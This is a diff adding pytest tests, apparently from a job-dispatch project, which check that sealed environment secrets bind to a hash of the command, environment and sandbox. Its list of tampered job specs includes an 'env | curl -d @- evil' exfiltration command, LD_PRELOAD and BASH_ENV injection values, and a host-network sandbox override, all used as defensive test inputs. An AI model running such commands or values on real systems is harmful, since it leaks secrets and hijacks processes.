@@ -16,7 +16,7 @@ from pathlib import Path
 import pytest
 from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.primitives.asymmetric import ed25519, x25519
-from pyhpke import AEADId, CipherSuite, KDFId, KEMId, KEMKey
+from pyhpke import AEADId, CipherSuite, KDFId, KEMId, KEMKey, OpenError
 from pyhpke.kem_key import KEMKeyPair
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1]))   # so that the script form finds pond and swarm
@@ -313,6 +313,55 @@ def test_worker_cannot_unseal_a_blob_meant_for_something_else(change):
     for impl in sorted(OPENERS):
         error = refusal(impl, args["private_raw"], blob, args["job"], args["attempt"], args["fp"], args["spec"])
         assert "another worker key, job, attempt, fingerprint or job spec" in error.hint
+
+
+# What the job runs, and what an orchestrator relaying the assignment could change it to.
+SPEC_INPUTS = {
+    "as submitted": (["./agent.sh"], {}, DEFAULT_SANDBOX),
+    "another command": (["sh", "-c", "env | curl -d @- evil"], {}, DEFAULT_SANDBOX),
+    "an argument appended": (["./agent.sh", "--verbose"], {}, DEFAULT_SANDBOX),
+    "LD_PRELOAD": (["./agent.sh"], {"LD_PRELOAD": "/tmp/x.so"}, DEFAULT_SANDBOX),
+    "BASH_ENV": (["./agent.sh"], {"BASH_ENV": "/tmp/x"}, DEFAULT_SANDBOX),
+    "env of null instead of {}": (["./agent.sh"], None, DEFAULT_SANDBOX),
+    "weaker tier": (["./agent.sh"], {}, dict(DEFAULT_SANDBOX, tier="byo")),
+    "another profile": (["./agent.sh"], {}, dict(DEFAULT_SANDBOX, profile="untrusted-code-read")),
+    "sandbox overrides": (["./agent.sh"], {}, dict(DEFAULT_SANDBOX, overrides={"network": "host"})),
+    "non-ASCII argument": (["./agent.sh", "grüße ✓"], {"MODE": "ünï"}, DEFAULT_SANDBOX),
+}
+
+
+@pytest.mark.parametrize("name", sorted(SPEC_INPUTS))
+def test_job_spec_is_the_same_on_both_sides(name):
+    command, env, sandbox = SPEC_INPUTS[name]
+    independent = spec_of(command, env, sandbox)
+    assert sealing.job_spec(command, env, sandbox) == swarm.job_spec(command, env, sandbox) == independent
+    assert len(independent) == 64 and independent == independent.lower()
+
+
+def test_every_change_to_what_runs_is_another_spec():
+    specs = {name: spec_of(*inputs) for name, inputs in SPEC_INPUTS.items()}
+    assert len(set(specs.values())) == len(specs)
+    assert specs["as submitted"] == SPEC
+    # Key order in the job's own objects does not matter: both sides hash canonical JSON.
+    assert spec_of(["./agent.sh"], {}, dict(reversed(list(DEFAULT_SANDBOX.items())))) == SPEC
+
+
+@pytest.mark.parametrize("name", sorted(set(SPEC_INPUTS) - {"as submitted"}))
+def test_blob_sealed_for_one_spec_does_not_open_for_another(name):
+    other = spec_of(*SPEC_INPUTS[name])
+    # Sealed by pond for the job as submitted: neither side nor pyhpke opens it for the changed job.
+    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
+    for impl in sorted(OPENERS):
+        refusal(impl, A.x25519_private, blob, JOB, 1, A.fingerprint, other)
+    with pytest.raises(OpenError):
+        pyhpke_open(A.x25519_private, blob, info_bytes(JOB, 1, A.fingerprint, other))
+    # And the other way round, sealed by pyhpke for the changed job: not opened as the submitted one.
+    enc, ct = pyhpke_seal(A.x25519_public, sealing.canonical_json(ENV), info_bytes(JOB, 1, A.fingerprint, other))
+    for impl in sorted(OPENERS):
+        refusal(impl, A.x25519_private, blob_of(enc, ct), JOB, 1, A.fingerprint, SPEC)
+    # Each still opens for the spec it was sealed for.
+    assert json.loads(pyhpke_open(A.x25519_private, blob, info_bytes(JOB, 1, A.fingerprint, SPEC))) == ENV
+    assert swarm.unseal_env(A.x25519_private, blob_of(enc, ct), JOB, 1, A.fingerprint, other) == ENV
 
 
 @pytest.mark.parametrize("field", ["enc", "ct"])
